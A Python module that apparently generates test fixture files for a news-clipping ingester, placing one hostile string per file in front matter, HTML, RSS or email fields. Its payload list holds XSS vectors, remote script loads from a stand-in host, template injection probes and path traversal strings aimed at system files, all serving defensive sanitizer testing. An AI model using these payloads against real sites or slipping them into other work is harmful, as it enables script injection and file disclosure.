"""Clippings of somebody who means harm: what is tried, and everywhere it can be put; all of our own making."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

__all__ = ["DONE", "FAR", "hostile_files"]

DONE = "document.documentElement.dataset.owned='yes'"
"""What every script among these would do, where one could run."""

FAR = "far.example.net"
"""The host that every fetch among these would ask."""

_PAYLOADS = (
    f"<script>{DONE}</script>",
    f"<ScRiPt >{DONE}</sCrIpT>",
    f"<script src=//{FAR}/a.js></script>",
    f"</title><script>{DONE}</script>",
    f"</textarea></style></noscript><script>{DONE}</script>",
    f"--><script>{DONE}</script><!--",
    f"]]><script>{DONE}</script>",
    f'"><script>{DONE}</script>',
    f'\'><img src=x onerror="{DONE}">',
    f"<img src=x onerror={DONE}>",
    f"<img/src=//{FAR}/i.png/onload={DONE}>",
    f"<image href=x onerror={DONE}>",
    f"<svg onload={DONE}>",
    f"<svg><script>{DONE}</script></svg>",
    f"<svg><animate onbegin={DONE} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={DONE}/>#x"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={DONE}>",
    f'<iframe src="javascript:{DONE}"></iframe>',
    f'<iframe srcdoc="<script>parent.{DONE}</script>"></iframe>',
    f'<object data="javascript:{DONE}"></object>',
    f"<embed src=//{FAR}/x.swf>",
    f'<a href="javascript:{DONE}">press</a>',
    f'<a href=" java\tscript:{DONE}">press</a>',
    f'<a href="data:text/html,<script>{DONE}</script>">press</a>',
    f'<form action="javascript:{DONE}"><button autofocus>go</button></form>',
    f"<input autofocus onfocus={DONE}>",
    f"<details open ontoggle={DONE}>",
    f"<video><source onerror={DONE}></video>",
    f"<body onload={DONE}>",
    f"<marquee onstart={DONE}>",
    f'<meta http-equiv=refresh content="0;url=//{FAR}/">',
    f"<link rel=stylesheet href=//{FAR}/a.css>",
    f"<style>@import '//{FAR}/a.css';</style>",
    f"<style>*{{background:url(//{FAR}/b.png)}}</style>",
    f"<base href=//{FAR}/>",
    f'<p style="background:url(//{FAR}/c.png)">styled</p>',
    f"&lt;script&gt;{DONE}&lt;/script&gt;",
    f"&#60;script&#62;{DONE}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{DONE}&amp;lt;/script&amp;gt;",
    "{{ config }} {{ ''.__class__.__mro__ }} {% include 'base.html' %} {{ 7 * 191 }}",
    "${7*191} <%= 7*191 %> #{7*191} {{constructor.constructor('return 1')()}}",
    f"javascript:{DONE}",
    f"JaVaScRiPt:{DONE}//https://example.org/",
    f"data:text/html;base64,PHNjcmlwdD4= {DONE}",
    "../../../../../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "/absolute/../..//path/%2e%2e/%00",
    "\u202egnp.exe \u2066hidden\u2069 \u200b\u200d\ufeff",
    "\x00\x07\x1b[31mred\x1b[0m \ufffe\uffff",
    f"{'a' * 5000}<script>{DONE}</script>",
    f"{'<b>' * 300}deep{DONE}",
    f"<!--[if gte IE 4]><script>{DONE}</script><![endif]-->",
)

_BODY = "The ferry to Aldersund was late again, and nobody on the quay was told why. Fog had kept her in the harbour."
_FIELDS = ("title", "author", "outlet", "tags", "url", "archive", "licence", "id", "language", "agency", "rights")


def hostile_files(count: int) -> Iterator[tuple[str, str]]:
    """Give so many files by name, each with one payload in one place; further ones come in other places."""
    made = 0
    while made < count:
        for number, payload in enumerate(_PAYLOADS):
            if made == count:
                return
            place = (number + made // len(_PAYLOADS)) % (len(_FIELDS) + len(_WHOLE))
            if place < len(_FIELDS):
                yield f"{made:03}.md", _in_field(_FIELDS[place], payload, made)
            else:
                suffix, write = _WHOLE[place - len(_FIELDS)]
                yield f"{made:03}{suffix}", write(payload, made)
            made += 1


def _in_field(field: str, payload: str, number: int) -> str:
    quoted = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    fields = {"title": f"Clipping {number}", "date": f"2026-03-{number % 20 + 1:02}", "outlet": "Example Post"}
    fields[field] = quoted
    head = "".join(f'{name}: "{value}"\n' for name, value in fields.items())
    return f"---\n{head}---\n\n{_BODY} It was number {number}.\n"


def _markdown(payload: str, number: int) -> str:
    link = payload.replace("\n", " ")
    return (
        f"---\ntitle: Body {number}\ndate: 2026-03-{number % 20 + 1:02}\n---\n\n{_BODY}\n\n{payload}\n\n"
        f"[a link]({link}) ![a picture]({link}) <{link}> `{link}`\n\n> {link} said so, number {number}.\n"
    )


def _text(payload: str, number: int) -> str:
    return f" date 2026-03-{number % 20 + 1:02} {payload}\n\n{_BODY} {payload} It was number {number}.\n"


def _page(payload: str, number: int) -> str:
    return (
        f"<!doctype html><html><head><title>Page {number} {payload}</title>"
        f'<meta name="author" content="{payload}"><meta property="og:site_name" content="{payload}">'
        f'<meta property="article:published_time" content="2026-03-{number % 20 + 1:02}T10:00:00Z"></head>'
        f"<body><article><h1>Page {number}</h1><p>{_BODY}</p>"
        f"<p>{payload} stands here, number {number}.</p></article></body></html>"
    )


def _feed(payload: str, number: int) -> str:
    kept = escape(payload.translate(dict.fromkeys((0, 7, 0x1B, 0xFFFE, 0xFFFF))))  # XML can hold none of these
    return (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>{kept}</title>'
        f"<item><title>Item {number} {kept}</title><link>{kept}</link><guid>{number}</guid>"
        f"<pubDate>Mon, {number % 20 + 1:02} Mar 2026 10:00:00 GMT</pubDate><author>{kept}</author>"
        f"<category>{kept}</category><description>{_BODY} {kept}</description></item></channel></rss>"
    )


def _mail(payload: str, number: int) -> str:
    line = payload.replace("\n", " ").replace("\x00", "")
    return (
        f"From: {line} <news@example.org>\nSubject: Mail {number} {line}\n"
        f"Date: {number % 20 + 1} Mar 2026 10:00:00 +0000\n"
        f"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<p>{_BODY} {payload} Number {number}.</p>\n"
    )


def _note(payload: str, number: int) -> str:
    day = f"2026-03-{number % 20 + 1:02}"
    quoted = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    head = f'---\nkind: note\nday: {day}\nheadline: "{quoted}"\nauthor: "{quoted}"\n---\n'
    return f"{head}\nA note. {payload} [x]({payload})\n"


_WHOLE = ((".md", _markdown), (".txt", _text), (".html", _page), (".xml", _feed), (".eml", _mail), (".md", _note))
